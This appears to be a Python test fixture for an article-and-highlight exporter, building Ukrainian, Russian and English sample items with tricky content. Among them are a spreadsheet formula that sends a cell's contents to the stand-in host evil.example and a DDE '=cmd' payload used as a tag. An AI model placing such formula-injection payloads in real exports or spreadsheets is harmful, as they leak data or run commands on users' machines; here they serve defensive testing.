"""Original sample articles and highlights for the export tests (written for these tests).

The texts imitate what researchers save: a Ukrainian regional news item with reported speech
opening with a dash, a Russian item, an English blog post with no author, date or URL, and a
local Markdown note. Highlights carry the content that tends to break exporters: double
quotes, line breaks and blank lines, ``>``, ``#``, ``|``, formula prefixes, Cyrillic, emoji,
empty notes and Markdown notes.
"""

from __future__ import annotations

from datetime import date, datetime, timezone

from marginalia.core.export.model import ExportArticle
from marginalia.core.records import ArticleDetail, HighlightRecord

_NEXT_ID = [1000]


def make_article(**overrides) -> ArticleDetail:
    values = dict(
        id=1,
        title="Міська рада Черкас ухвалила програму ремонту укриттів у школах",
        site="Черкаський вісник",
        author="Олена Дмитрук",
        url="https://vistnyk.example.ua/news/2025/11/25/ukryttya-shkoly",
        published=date(2025, 11, 25),
        imported=datetime(2025, 11, 26, 8, 15, 0),
        language="uk",
        word_count=412,
        tags=("освіта",),
        highlight_count=0,
        is_read=True,
        content_hash="3f7a" * 16,
        kind="text",
    )
    values.update(overrides)
    return ArticleDetail(**values)


def make_highlight(**overrides) -> HighlightRecord:
    _NEXT_ID[0] += 1
    values = dict(
        id=_NEXT_ID[0],
        article_id=1,
        start=120,
        end=180,
        quote="Ремонт охопить двадцять шість укриттів до початку весняного семестру.",
        prefix="У міській раді уточнили, що ",
        suffix=" Підрядників оберуть через",
        color="yellow",
        color_name="key fact",
        note="",
        tags=(),
        orphan=False,
        created=datetime(2025, 11, 26, 9, 0, 0),
        updated=datetime(2025, 11, 26, 9, 5, 30),
    )
    values.update(overrides)
    return HighlightRecord(**values)


DASH_QUOTE = "- Гроші вже закладені в бюджет, чекаємо лише на погодження області, - сказав секретар ради."
QUOTED_SPEECH = '"Ми не можемо чекати до весни", — наголосила директорка ліцею №7.'
FORMULA_QUOTE = '=HYPERLINK("http://evil.example/x?d="&A1,"Детальніше")'
MULTILINE_QUOTE = (
    "Перший етап — укриття у трьох ліцеях.\n"
    "# Другий етап — решта шкіл\n"
    "> третій етап поки не визначений\n"
    "\n"
    "| статті | сума |\n"
    "|---|---|\n"
    "1. Кошти з резервного фонду 🇺🇦"
)
MARKDOWN_NOTE = (
    "Порівняти з **торішнім** рішенням.\n\n"
    "- перевірити суму\n"
    "- знайти [протокол](https://rada.example.ua/protokol-14)\n\n"
    "# не заголовок статті\n"
    "```\n"
    "незакритий блок коду"
)


def sample_items() -> list[ExportArticle]:
    """Four articles with tricky highlights, in a deliberately unsorted order."""
    uk = make_article()
    ru = make_article(
        id=2,
        title="Городской совет утвердил бюджет на ремонт школ",
        site="Вечерние вести",
        author="Пётр Сидоренко",
        url="https://vesti.example.ru/2025/10/03/budget",
        published=date(2025, 10, 3),
        imported=datetime(2025, 10, 4, 12, 0, 0),
        language="ru",
        content_hash="9b1c" * 16,
    )
    blog = make_article(
        id=3,
        title="Notes on archiving | what \"source\" means > # tags",
        site=None,
        author=None,
        url=None,
        published=None,
        imported=datetime(2025, 9, 1, 18, 30, 0, tzinfo=timezone.utc),
        language="en",
        content_hash="c0de" * 16,
        kind="markdown",
    )
    empty = make_article(id=4, title="Стаття без виділень", published=date(2024, 2, 29), content_hash="ee11" * 16)
    return [
        ExportArticle(
            uk,
            [
                make_highlight(start=900, end=1000, quote=MULTILINE_QUOTE, note=MARKDOWN_NOTE,
                               tags=("cold war", "Україна", "бюджет/2025", "1984"), color="red",
                               color_name="contested claim"),
                make_highlight(start=40, end=130, quote=DASH_QUOTE, note="+ перевірити у протоколі",
                               tags=("цитата",)),
                make_highlight(start=0, end=0, quote=QUOTED_SPEECH, orphan=True, note="@директорка: уточнити"),
                make_highlight(start=300, end=360, quote=FORMULA_QUOTE, tags=("=cmd|' /C calc'!A0",)),
            ],
        ),
        ExportArticle(empty, []),
        ExportArticle(
            blog,
            [make_highlight(article_id=3, start=5, end=60, quote="Tabs\tand `code`, *stars*, [links](x) & &amp; <b>html</b>",
                            note="", color="blue", color_name="", tags=())],
        ),
        ExportArticle(
            ru,
            [make_highlight(article_id=2, start=10, end=70, quote="Депутаты назвали «непростым» решение о ремонте.",
                            note="Сравнить с «прошлогодним»", color="green", color_name="позиция влади",
                            tags=("школы",))],
        ),
    ]
